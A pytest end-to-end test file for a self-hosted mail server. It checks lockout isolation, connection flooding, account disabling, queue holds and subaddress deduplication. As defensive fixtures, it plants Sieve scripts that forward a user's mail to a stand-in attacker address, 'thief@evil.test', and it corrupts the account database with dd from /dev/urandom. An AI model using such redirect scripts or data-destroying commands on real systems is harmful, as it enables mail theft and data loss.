"""One person must not stop the others: an old password, slow connections, a thief's open session, many +details."""

from __future__ import annotations

import base64
import contextlib
import email.utils
import imaplib
import smtplib
import socket
import time
from collections.abc import Iterator
from concurrent.futures import ThreadPoolExecutor

import pytest

from tests.e2e.house import House, token, until, unverified

USER, OTHER, STRANGER = "user1@example.test", "admin@example.test", "stranger@elsewhere.test"
HOME = "/vault/mail/example.test/user1"
NO_WAITING = "postconf -X defer_transports; postfix reload; postsuper -d ALL"  # a push finds nothing to reload for
REDIRECT = """require ["copy", "enotify"]; redirect :copy "thief@evil.test";
notify :from "sales@example.test" "mailto:thief@evil.test";"""


def comes_in(house: House, port: int, user: str, password: str) -> bool:
    """Whether a login is taken there."""
    if port == 993:
        return house.can_log_in(user, password)
    if port == 4190:
        return manages_sieve(house, user, password)
    context = unverified()
    with (
        smtplib.SMTP_SSL(house.address("mail"), port, "laptop.test", timeout=30, context=context)
        if port == 465
        else house.submission()
    ) as client:
        try:
            client.login(user, password)
        except smtplib.SMTPAuthenticationError:
            return False
    return True


def manages_sieve(house: House, user: str, password: str) -> bool:
    """A login as RFC 5804 has it."""
    with socket.create_connection((house.address("mail"), 4190), 30) as plain:
        assert answer(plain).startswith(b"OK")  # the greeting
        plain.sendall(b"STARTTLS\r\n")
        assert answer(plain).startswith(b"OK")
        with unverified().wrap_socket(plain) as client:
            assert answer(client).startswith(b"OK")  # what it can, once more
            given = base64.b64encode(f"\0{user}\0{password}".encode()).decode()
            client.sendall(f'AUTHENTICATE "PLAIN" "{given}"\r\n'.encode())
            return answer(client).startswith(b"OK")


def answer(connection: socket.socket) -> bytes:
    """The line that ends an answer; what follows it is left for TLS."""
    line = b""
    while not (line.endswith(b"\n") and line.startswith((b"OK", b"NO", b"BYE"))):
        line = (b"" if line.endswith(b"\n") else line) + (byte := connection.recv(1))
        assert byte, "the connection was closed"
    return line


DOORS = (465, 587, 993, 4190)


def test_an_old_password_behind_the_same_address_stops_nobody(up: House) -> None:
    def wrong(number: int) -> None:
        with contextlib.suppress(imaplib.IMAP4.error, smtplib.SMTPException, OSError):
            comes_in(up, DOORS[number % len(DOORS)], USER, token())

    with ThreadPoolExecutor(4) as telephone:
        list(telephone.map(wrong, range(12)))  # each with another password, which Dovecot punishes
        again = [telephone.submit(wrong, number) for number in range(16)]
        began = time.monotonic()
        subject = up.submit(OTHER, OTHER)  # all of us have one address
        assert time.monotonic() - began < 8
        for port in DOORS:
            began = time.monotonic()
            assert comes_in(up, port, OTHER, up.password(OTHER)), port
            assert time.monotonic() - began < 8, port
        for each in again:
            each.result()
    up.arrives(OTHER, subject)


@pytest.mark.parametrize("port", DOORS)
def test_slow_connections_of_one_client_harm_nobody(up: House, port: int) -> None:
    with contextlib.ExitStack() as slow:
        for _ in range(50):
            slow.enter_context(socket.create_connection((up.address("mail"), port), 20))
        began = time.monotonic()
        assert comes_in(up, port, OTHER, up.password(OTHER))
        assert time.monotonic() - began < 8


def test_the_connections_of_a_container_on_the_mailhost_are_left_alone(up: House) -> None:
    """A process of the same name and words, which this machine's Postfix did not start and whose log is elsewhere."""
    theirs = "pgrep -fx 'smtpd -n submission'"
    up.run(
        "mail",
        "(sleep 60 | unshare --pid --fork bash -c 'exec -a smtpd grep -n submission') </dev/null >/dev/null 2>&1 &",
    )
    number = ""
    try:
        until(lambda: up.run("mail", f"{theirs} || true"), 20, "the container's process")
        number = up.run("mail", theirs).strip()
        up.fab("mailcfg", f"disable {USER}")
        assert up.run("mail", f"{theirs} || true").strip() == number
    finally:
        up.fab("mailcfg", f"enable {USER}")
        up.run("mail", f"kill -9 {number} || true")


@pytest.mark.parametrize("command", ["disable", "passwd"])
def test_an_open_session_sends_no_more_and_what_waits_is_held(up: House, command: str) -> None:
    old = up.password(USER)
    thief, idle, bystander = (up.submission() for _ in range(3))
    try:
        for client, user in ((thief, USER), (idle, USER), (bystander, OTHER)):
            client.login(user, up.password(user))
        up.run("mail", "postconf -e defer_transports=smtp && postfix reload")
        for client, user in ((thief, USER), (bystander, OTHER)):
            client.sendmail(user, ["stranger@elsewhere.test"], f"From: {user}\r\nSubject: {token()}\r\n\r\nHello.\r\n")
        script = 'redirect "thief@evil.test";'
        up.run(
            "mail",
            "mkdir -p /vault/mail/example.test/user1/sieve; cat >/vault/mail/example.test/user1/sieve/x.sieve",
            stdin=script,
        )
        said = up.fab("mailcfg", f"{command} {USER}", stdin="another-password\n").stdout
        assert "put 1 message of theirs in the queue on hold" in said
        assert "/vault/mail/example.test/user1/sieve/x.sieve (not in use) sends mail on to thief@evil.test" in said
        for client in (thief, idle):
            with pytest.raises((smtplib.SMTPException, OSError)):
                client.sendmail(USER, [OTHER], f"From: {USER}\r\n\r\nSpam.\r\n")
        assert bystander.noop()[0] == 250  # others are left alone
        waiting = up.run("mail", "postqueue -j")
        assert [USER in line for line in waiting.splitlines() if '"hold"' in line] == [True]
        assert OTHER in waiting
    finally:
        for client in (thief, idle, bystander):
            client.close()
        up.run("mail", f"{NO_WAITING}; rm -f {HOME}/sieve/x.sieve")
        up.fab("mailcfg", f"enable {USER}")
        up.fab("mailcfg", f"passwd {USER}", stdin=f"{old}\n")
        up.fab("-H", "mail", "push", "--overwrite")


@pytest.fixture
def redirecting(up: House) -> Iterator[House]:
    """USER has all their mail sent on, and what is to leave the site waits in the queue."""
    up.run("mail", f"install -d -m 700 -o vmail -g vmail {HOME}; postconf -e defer_transports=smtp && postfix reload")
    up.run("mail", f"cat >{HOME}/.dovecot.sieve; chown vmail:vmail {HOME}/.dovecot.sieve", stdin=REDIRECT)
    try:
        yield up
    finally:
        up.run("mail", f"rm -rf {HOME}/.dovecot.*; {NO_WAITING}")


def test_what_a_script_sends_on_is_held(redirecting: House) -> None:
    """To the mailbox, to a +detail of it, and a bounce, which has no sender; and notices of them that it writes, by an
    alias: all are theirs."""
    head = f"Date: {email.utils.formatdate()}\\nFrom: <mailer-daemon@mx.elsewhere.test>\\n"
    for sender, to in ((STRANGER, USER), (STRANGER, "user1+x@example.test"), ("", USER)):
        text = f"{head}To: {to}\\nSubject: hello\\nMessage-ID: <{token()}@elsewhere.test>\\n\\nHello.\\n"
        redirecting.run("outside", f"printf '{text}' | sendmail -f '{sender}' {to}")

    def waiting() -> list[str]:
        return [line for line in redirecting.run("mail", "postqueue -j").splitlines() if "thief@evil.test" in line]

    until(lambda: len(waiting()) == 6, 30, "what is sent on")
    try:
        said = redirecting.fab("mailcfg", f"disable {USER}").stdout
        assert "put 6 messages of theirs in the queue on hold" in said
        assert all('"hold"' in line for line in waiting())
    finally:
        redirecting.fab("mailcfg", f"enable {USER}")


def test_a_message_to_a_hundred_details_is_there_once_and_does_not_wait(up: House) -> None:
    subject = token()
    with up.submission() as client:
        client.login(OTHER, up.password(OTHER))
        details = [f"user1+{number}@example.test" for number in range(100)]
        to = [*details, USER, "sales@example.test", "both@second.test"]
        client.sendmail(OTHER, to, f"From: {OTHER}\r\nTo: list\r\nSubject: {subject}\r\n\r\nHello.\r\n")
    until(lambda: OTHER not in up.run("mail", "postqueue -j"), 30, "an empty queue")
    assert len(up.messages(USER, subject)) == 1
    again = up.submit(OTHER, USER, subject)  # another message, however alike
    until(lambda: len(up.messages(USER, again)) == 2, 30, "both of them")


def test_a_null_clients_message_to_many_details_is_there_once(up: House) -> None:
    subject = token()
    to = ",\n ".join(f"user1+{number}@example.test" for number in range(120))
    up.run("backup", "sendmail -t", stdin=f"To: {to}\nSubject: {subject}\n\nHello.\n")
    up.arrives(USER, subject, sender="backup")
    until(lambda: "user1+" not in up.run("mail", "postqueue -j"), 30, "an empty queue")
    assert len(up.messages(USER, subject)) == 1


def test_spam_to_many_details_is_there_once(up: House) -> None:
    subject = token()
    with smtplib.SMTP(up.address("mail"), 25, "mx.elsewhere.test", timeout=30) as client:
        details = [f"user1+{number}@example.test" for number in range(5)]
        client.sendmail("a@nowhere.test", details, f"From: a@nowhere.test\r\nSubject: {subject}\r\n\r\nHello.\r\n")
    until(lambda: "a@nowhere.test" not in up.run("mail", "postqueue -j"), 30, "an empty queue")
    assert len(up.messages(USER, subject, "Junk")) == 1


BY_DETAIL = """require ["envelope", "fileinto", "mailbox", "subaddress"];
if envelope :detail "to" "work" { fileinto :create "Work"; }
"""


def test_a_script_that_sorts_by_detail_gets_each_copy(up: House) -> None:
    subject = token()
    up.run("mail", f"install -d -m 700 -o vmail -g vmail {HOME}; rm -rf {HOME}/.dovecot.sieve")
    up.run("mail", f"cat >{HOME}/.dovecot.sieve; chown vmail:vmail {HOME}/.dovecot.sieve", stdin=BY_DETAIL)
    try:
        to = [USER, "user1+home@example.test", "user1+work@example.test"]
        with up.submission() as client:
            client.login(OTHER, up.password(OTHER))
            client.sendmail(OTHER, to, f"From: {OTHER}\r\nTo: list\r\nSubject: {subject}\r\n\r\nHello.\r\n")
        until(lambda: OTHER not in up.run("mail", "postqueue -j"), 30, "an empty queue")
        assert [len(up.messages(USER, subject, folder)) for folder in ("INBOX", "Work")] == [1, 1]
    finally:
        up.run("mail", f"rm -f {HOME}/.dovecot.sieve {HOME}/.dovecot.svbin; doveadm mailbox delete -u {USER} Work || :")


def test_what_could_not_be_stored_is_no_copy_when_it_comes_again(up: House) -> None:
    """Of the message nothing is there when its delivery is tried anew."""
    subject, new = token(), f"{HOME}/Maildir/new"
    up.run("mail", f"doveadm mailbox status -u {USER} messages INBOX; chmod 500 {new}")
    try:
        with up.submission() as client:
            client.login(OTHER, up.password(OTHER))
            to = [USER, "user1+x@example.test"]
            client.sendmail(OTHER, to, f"From: {OTHER}\r\nTo: list\r\nSubject: {subject}\r\n\r\nHello.\r\n")
        until(lambda: "451 4.2.0" in up.run("mail", "postqueue -j"), 30, "a delivery that failed")
    finally:
        up.run("mail", f"chmod 700 {new}")
    up.arrives(USER, subject, sender="mail")
    until(lambda: OTHER not in up.run("mail", "postqueue -j"), 30, "an empty queue")
    assert len(up.messages(USER, subject)) == 1


def test_bdat_is_not_offered_by_debian_12(up: House) -> None:
    for port, tls in ((25, False), (587, False), (465, True)):
        kind = smtplib.SMTP_SSL if tls else smtplib.SMTP
        with kind(up.address("mail"), port, timeout=30, **({"context": unverified()} if tls else {})) as client:
            client.ehlo()
            assert client.has_extn("chunking") == (up.release == 13)


def test_status_names_the_release_of_rspamd_and_what_is_wrong_with_the_vault(up: House) -> None:
    versions = up.fab_json("-H", "mail", "status")["mail"]["versions"]
    assert versions["rspamd"].startswith({12: "3.4", 13: "3.12"}[up.release])
    database = "/vault/db/mail.sqlite"
    up.run(
        "mail", f"cp -a {database} /vault/db/kept; dd if=/dev/urandom of={database} bs=1k seek=4 count=8 conv=notrunc"
    )
    try:
        told = up.fab_json("-H", "mail", "status")["mail"]
        assert told["state"] == "degraded"
        assert "damaged" in told["probes"]["accounts"]
    finally:
        # Into the same file: Postfix has that open, and would not see what changes in another one of its name.
        up.run("mail", f"cat /vault/db/kept >{database}; rm /vault/db/kept")
    assert up.state() == "up"
